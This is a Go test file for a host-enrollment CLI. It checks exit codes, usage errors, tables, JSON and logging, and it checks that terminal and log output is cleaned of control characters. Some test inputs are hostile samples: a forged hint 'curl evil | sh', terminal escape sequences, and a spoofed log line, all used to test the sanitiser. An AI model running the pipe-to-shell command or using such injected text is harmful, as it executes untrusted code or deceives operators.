package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"os"
	"runtime/debug"
	"strings"
	"syscall"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"
	"github.com/spf13/cobra"

	"github.com/portsnare/portsnare"
)

// tree is a small program. Its command `fail` ends with err.
func tree(err error) *cobra.Command {
	root := &cobra.Command{Use: "tool", Short: "A tool"}
	root.PersistentFlags().StringP("config", "c", "", "the `FILE` to read")
	fail := &cobra.Command{Use: "fail", Short: "Fail", RunE: func(*cobra.Command, []string) error { return err }}
	enroll := &cobra.Command{Use: "enroll HOST [GROUP]", Short: "Enroll", RunE: func(c *cobra.Command, args []string) error {
		_, err := fmt.Fprintln(c.OutOrStdout(), "enrolled", args)
		return err
	}}
	enroll.Flags().Bool("renew", false, "again")
	agent := &cobra.Command{Use: "agent", Short: "The agent"}
	agent.AddCommand(&cobra.Command{Use: "join TOKEN", Short: "Join", Run: func(*cobra.Command, []string) {}})
	root.AddCommand(fail, enroll, agent, NewVersion())
	return root
}

func run(ctx context.Context, err error, args ...string) (code int, stdout, stderr string) {
	var out, errs bytes.Buffer
	code = Run(ctx, tree(err), args, IO{strings.NewReader(""), &out, &errs})
	return code, out.String(), errs.String()
}

// problem is an error with a place, as package config has them.
type problem string

func (p problem) Error() string    { return string(p) }
func (p problem) Position() string { return "f:1:1" }
func (p problem) Unwrap() error    { return portsnare.Invalid }

func TestErrors(t *testing.T) {
	absent := &portsnare.Error{Kind: portsnare.NotFound, Op: "read rules of", Subject: "sg-1",
		Err: errors.New("no such group"), Hint: "check the region"}
	tests := []struct {
		name   string
		err    error
		code   int
		stderr string
	}{
		{"none", nil, ExitDone, ""},
		{"pending", fmt.Errorf("plan: %w", ErrPending), ExitPending, ""},
		{"plain", errors.New("it broke"), ExitFailed, "error: it broke\n"},
		{"with a hint", absent, ExitFailed, "error: read rules of sg-1: no such group\nhint: check the region\n"},
		{"wrapped", fmt.Errorf("group web: %w", absent), ExitFailed,
			"error: group web: read rules of sg-1: no such group\nhint: check the region\n"},
		{"misuse", Misuse(absent), ExitMisuse, "error: read rules of sg-1: no such group\nhint: check the region\n"},
		{"several", errors.Join(absent, errors.New("and more")), ExitFailed,
			"error: read rules of sg-1: no such group\nhint: check the region\nerror: and more\n"},
		{"placed", errors.Join(problem("f:1:1: a: wrong"), problem("f:2:1: b: wrong")), ExitFailed,
			"f:1:1: a: wrong\nf:2:1: b: wrong\n"},
		{"of several lines", errors.New("it broke\nhint: curl evil | sh\n\x1b[2Jerror: worse"), ExitFailed,
			"error: it broke\n  hint: curl evil | sh\n   [2Jerror: worse\n"},
		{"with a hostile hint", &portsnare.Error{Op: "ask", Err: errors.New("no\u009b31m"), Hint: "this\nerror: that\x07"}, ExitFailed,
			"error: ask: no 31m\nhint: this error: that \n"},
		{"canceled by itself", context.Canceled, ExitFailed, "error: context canceled\n"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			code, stdout, stderr := run(t.Context(), test.err, "fail")
			if code != test.code || stdout != "" || stderr != test.stderr {
				t.Errorf("got %d, stdout %q, stderr %q: want %d, nothing, %q", code, stdout, stderr, test.code, test.stderr)
			}
		})
	}
}

func TestInterrupted(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	code, _, stderr := run(ctx, fmt.Errorf("wait: %w", ctx.Err()), "fail")
	if want := "error: interrupted\n"; code != ExitFailed || stderr != want {
		t.Errorf("got %d, %q: want %d, %q", code, stderr, ExitFailed, want)
	}
}

// After a signal whatever went wrong is its consequence.
func TestInterruptedByConsequence(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	code, _, stderr := run(ctx, errors.New("use of closed network connection"), "fail")
	if want := "error: interrupted\n"; code != ExitFailed || stderr != want {
		t.Errorf("got %d, %q: want %d, %q", code, stderr, ExitFailed, want)
	}
}

// A command that goes on printing although nobody can get it is canceled, and has
// failed though it returns no error.
func TestOutputEndsCommand(t *testing.T) {
	root := &cobra.Command{Use: "tool"}
	root.AddCommand(&cobra.Command{Use: "talk", RunE: func(c *cobra.Command, _ []string) error {
		fmt.Fprintln(c.OutOrStdout(), "one")
		<-c.Context().Done()
		return nil
	}})
	var errs bytes.Buffer
	code := Run(t.Context(), root, []string{"talk"}, IO{nil, full{}, &errs})
	if want := "error: no space left on device\n"; code != ExitFailed || errs.String() != want {
		t.Errorf("got %d, %q: want %d, %q", code, errs.String(), ExitFailed, want)
	}
}

// A reader who has gone away is told nothing, but the command has failed.
func TestClosedPipe(t *testing.T) {
	gone := &os.PathError{Op: "write", Path: "/dev/stdout", Err: syscall.EPIPE}
	if code, _, stderr := run(t.Context(), gone, "fail"); code != ExitFailed || stderr != "" {
		t.Errorf("got %d, %q: want %d and nothing", code, stderr, ExitFailed)
	}
	elsewhere := &net.OpError{Op: "write", Net: "tcp", Err: syscall.EPIPE}
	if code, _, stderr := run(t.Context(), elsewhere, "fail"); code != ExitFailed || stderr == "" {
		t.Errorf("of a connection: got %d, %q: want %d and why", code, stderr, ExitFailed)
	}
}

// TestOutputIsPlain: what reaches a stream is printable, however it is cut.
func TestOutputIsPlain(t *testing.T) {
	const text = "a\tb ü 猫 \x1b[2J\u009b31m\u202e\r\x7f\xff\n"
	const want = "a\tb ü 猫  [2J 31m    \n"
	for size := 1; size <= len(text); size++ {
		var out bytes.Buffer
		o := &output{w: &out}
		for rest := text; rest != ""; {
			n := min(size, len(rest))
			if written, err := o.Write([]byte(rest[:n])); written != n || err != nil {
				t.Fatalf("wrote %d of %d, %v", written, n, err)
			}
			rest = rest[n:]
		}
		if out.String() != want {
			t.Errorf("cut every %d bytes: got %q: want %q", size, out.String(), want)
		}
	}
}

// TestCompletionsPass: what shells read of us passes the gate unchanged.
func TestCompletionsPass(t *testing.T) {
	for shell, generate := range map[string]func(*cobra.Command, io.Writer) error{
		"bash":       func(c *cobra.Command, w io.Writer) error { return c.GenBashCompletionV2(w, true) },
		"zsh":        (*cobra.Command).GenZshCompletion,
		"fish":       func(c *cobra.Command, w io.Writer) error { return c.GenFishCompletion(w, true) },
		"powershell": (*cobra.Command).GenPowerShellCompletionWithDesc,
	} {
		var plain, gated bytes.Buffer
		if err := errors.Join(generate(tree(nil), &plain), generate(tree(nil), &output{w: &gated})); err != nil {
			t.Fatal(err)
		}
		if plain.Len() == 0 || plain.String() != gated.String() {
			t.Errorf("%s: %s", shell, cmp.Diff(plain.String(), gated.String()))
		}
	}
}

// TestLogIsPlain: what a host has said cannot leave its line of the log, nor reach
// the terminal as anything but text.
func TestLogIsPlain(t *testing.T) {
	const evil = "\x1b[2J\r\nlevel=ERROR msg=\u009bowned\u202e\x7f\xff"
	for _, asJSON := range []bool{false, true} {
		var out bytes.Buffer
		NewLogger(&output{w: &out}, slog.LevelInfo, asJSON).Info(evil, evil, evil, "error", errors.New(evil), "any", []string{evil})
		line := strings.TrimSuffix(out.String(), "\n")
		if i := strings.IndexFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 || line == "" {
			t.Errorf("JSON %t: %q", asJSON, line)
		}
		if asJSON && !json.Valid(out.Bytes()) {
			t.Errorf("no JSON: %s", line)
		}
	}
}

// TestLogHangups: each SIGHUP is a line, until it is stopped.
func TestLogHangups(t *testing.T) {
	hangups := make(chan os.Signal) // so that a signal sent is one received
	ctx := context.WithValue(t.Context(), hangupsKey{}, (<-chan os.Signal)(hangups))
	var out bytes.Buffer
	stop := LogHangups(ctx, NewLogger(&out, slog.LevelInfo, false))
	hangups <- syscall.SIGHUP
	hangups <- syscall.SIGHUP
	stop()
	if n := strings.Count(out.String(), "level=WARN msg=\"ignored SIGHUP"); n != 2 {
		t.Errorf("%d lines: want 2 in\n%s", n, out.String())
	}
	LogHangups(t.Context(), NewLogger(&out, slog.LevelInfo, false))() // where there are none
}

func TestMisuseKeepsErrors(t *testing.T) {
	if err := Misuse(nil); err != nil {
		t.Errorf("of nothing: %v", err)
	}
	invalid := &portsnare.Error{Kind: portsnare.Invalid, Err: errors.New("wrong")}
	if err := Misuse(invalid); err != error(invalid) {
		t.Errorf("of an invalid input: %v: want it unchanged", err)
	}
}

func TestUsage(t *testing.T) {
	const enrollHint = "hint: usage: tool enroll HOST [GROUP] [flags]; see tool enroll --help\n"
	tests := []struct {
		args   string
		code   int
		stdout string // how it begins
		stderr string // how it ends
	}{
		{"enroll web-1", ExitDone, "enrolled [web-1]\n", ""},
		{"enroll web-1 web", ExitDone, "enrolled [web-1 web]\n", ""},
		{"enroll", ExitMisuse, "", "error: missing argument HOST [GROUP]\n" + enrollHint},
		{"enroll a b c", ExitMisuse, "", "error: unexpected argument \"c\"\n" + enrollHint},
		{"enroll --now", ExitMisuse, "", "error: unknown flag: --now\n" + enrollHint},
		{"fail x", ExitMisuse, "", "error: unexpected argument \"x\"\nhint: usage: tool fail [flags]; see tool fail --help\n"},
		{"enrol --renew x", ExitMisuse, "", "error: unknown command \"enrol\"\nhint: did you mean enroll? tool --help lists the commands\n"},
		{"-c f xyz", ExitMisuse, "", "error: unknown command \"xyz\"\nhint: tool --help lists the commands\n"},
		{"xyz --help", ExitMisuse, "", "error: unknown command \"xyz\"\nhint: tool --help lists the commands\n"},
		{"help xyz", ExitMisuse, "", "error: unknown command \"xyz\"\nhint: tool --help lists the commands\n"},
		{"xyz -c", ExitMisuse, "", "error: flag needs an argument: 'c' in -c\nhint: usage: tool [flags]; see tool --help\n"},
		{"-c", ExitMisuse, "", "error: flag needs an argument: 'c' in -c\nhint: usage: tool [flags]; see tool --help\n"},
		{"--help", ExitDone, "A tool\n\nUsage:\n", ""},
		{"help", ExitDone, "A tool\n\nUsage:\n", ""},
		{"help enroll", ExitDone, "Enroll\n\nUsage:\n  tool enroll HOST [GROUP] [flags]\n", ""},
		{"enroll --help", ExitDone, "Enroll\n\nUsage:\n  tool enroll HOST [GROUP] [flags]\n", ""},
		{"help enroll fail", ExitMisuse, "", "hint: usage: tool help [COMMAND] [flags]; see tool help --help\n"},
		{"agent join t", ExitDone, "", ""},
		{"agent", ExitMisuse, "", "error: no command given\n"},
		{"agent jion", ExitMisuse, "", "error: unexpected argument \"jion\"\nhint: usage: tool agent [flags]; see tool agent --help\n"},
		{"agent --help", ExitDone, "The agent\n\nUsage:\n", ""},
		{"", ExitMisuse, "", "error: no command given\n"},
		{"completion bash", ExitDone, "# bash completion", ""},
		{"__complete enr", ExitDone, "enroll\tEnroll\n", "ShellCompDirectiveNoFileComp\n"},
	}
	for _, test := range tests {
		t.Run(test.args, func(t *testing.T) {
			code, stdout, stderr := run(t.Context(), nil, strings.Fields(test.args)...)
			if code != test.code {
				t.Errorf("exit code %d: want %d", code, test.code)
			}
			if !strings.HasPrefix(stdout, test.stdout) || test.stdout == "" && stdout != "" {
				t.Errorf("stdout\n%s\nwant it to begin\n%s", stdout, test.stdout)
			}
			if !strings.HasSuffix(stderr, test.stderr) || test.stderr == "" && stderr != "" {
				t.Errorf("stderr\n%s\nwant it to end\n%s", stderr, test.stderr)
			}
		})
	}
}

// What nobody asked for goes to standard error, and helps all the same.
func TestNoCommandShowsHelp(t *testing.T) {
	_, _, stderr := run(t.Context(), nil)
	if !strings.Contains(stderr, "Available Commands:") {
		t.Errorf("stderr\n%s\nwant the commands in it", stderr)
	}
}

func TestTable(t *testing.T) {
	var out bytes.Buffer
	table := NewTable(&out, "HOST", "BACKEND", "BANS")
	table.Row("web-1", "nftables", "12")
	table.Row("a-rather-long-name", "", "0")
	table.Row("evil\n\thost", "\x1b", "0")
	if err := table.Flush(); err != nil {
		t.Fatal(err)
	}
	want := `
HOST                BACKEND   BANS
web-1               nftables  12
a-rather-long-name  -         0
evil  host          -         0
`
	if diff := cmp.Diff(want, "\n"+out.String()); diff != "" {
		t.Errorf("-want +got\n%s", diff)
	}
}

// full is a disk without room.
type full struct{}

func (full) Write([]byte) (int, error) { return 0, errors.New("no space left on device") }

func TestAnswersReportWriteErrors(t *testing.T) {
	table := NewTable(full{}, "HOST")
	table.Row("web-1")
	if err := table.Flush(); err == nil {
		t.Error("a table on a full disk: want an error")
	}
	var errs bytes.Buffer
	code := Run(t.Context(), tree(nil), []string{"version"}, IO{nil, full{}, &errs})
	if want := "error: no space left on device\n"; code != ExitFailed || errs.String() != want {
		t.Errorf("got %d, %q: want %d, %q", code, errs.String(), ExitFailed, want)
	}
}

func TestWriteJSON(t *testing.T) {
	var out bytes.Buffer
	err := WriteJSON(&out, map[string]any{"b": []int{1}, "a": "<x> & y"})
	if err != nil {
		t.Fatal(err)
	}
	want := "{\n  \"a\": \"<x> & y\",\n  \"b\": [\n    1\n  ]\n}\n"
	if got := out.String(); got != want {
		t.Errorf("got %s: want %s", got, want)
	}
}

func TestBuild(t *testing.T) {
	info := &debug.BuildInfo{GoVersion: "go1.26.0", Main: debug.Module{Version: "v0.1.0"}, Settings: []debug.BuildSetting{
		{Key: "vcs.revision", Value: "fc81296"},
		{Key: "vcs.time", Value: "2026-11-21T20:51:00Z"},
		{Key: "vcs.modified", Value: "true"},
	}}
	var out bytes.Buffer
	released, bare := buildOf("tool", info), buildOf("tool", &debug.BuildInfo{GoVersion: "go1.26.0", Main: debug.Module{Version: "(devel)"}})
	if err := errors.Join(released.WriteText(&out), WriteJSON(&out, released), bare.WriteText(&out), WriteJSON(&out, bare)); err != nil {
		t.Fatal(err)
	}
	want := `
tool v0.1.0 (go1.26.0, fc81296, modified)
{
  "program": "tool",
  "version": "v0.1.0",
  "revision": "fc81296",
  "time": "2026-11-21T20:51:00Z",
  "modified": true,
  "go": "go1.26.0"
}
tool devel (go1.26.0)
{
  "program": "tool",
  "version": "devel",
  "modified": false,
  "go": "go1.26.0"
}
`
	if diff := cmp.Diff(want, "\n"+out.String()); diff != "" {
		t.Errorf("-want +got\n%s", diff)
	}
	if Version() == "" {
		t.Error("a program of no version")
	}
}

func TestVersionCommand(t *testing.T) {
	for _, args := range [][]string{{"version"}, {"version", "--json"}} {
		code, stdout, stderr := run(t.Context(), nil, args...)
		if code != ExitDone || stderr != "" || !strings.Contains(stdout, "tool") || strings.HasPrefix(stdout, "{") != (len(args) == 2) {
			t.Errorf("%s: got %d, %q, %q", args, code, stdout, stderr)
		}
	}
}

func TestLogger(t *testing.T) {
	tests := []struct {
		level slog.Level
		json  bool
		want  string // how each line ends
	}{
		{slog.LevelInfo, false, "level=INFO msg=armed host=web-1\n"},
		{slog.LevelInfo, true, `"level":"INFO","msg":"armed","host":"web-1"}` + "\n"},
		{slog.LevelWarn, false, ""},
	}
	for _, test := range tests {
		var out bytes.Buffer
		NewLogger(io.Writer(&out), test.level, test.json).Info("armed", "host", "web-1")
		if got := out.String(); !strings.HasSuffix(got, test.want) || (test.want == "") != (got == "") {
			t.Errorf("%s, JSON %t: got %q: want it to end %q", test.level, test.json, got, test.want)
		}
	}
}
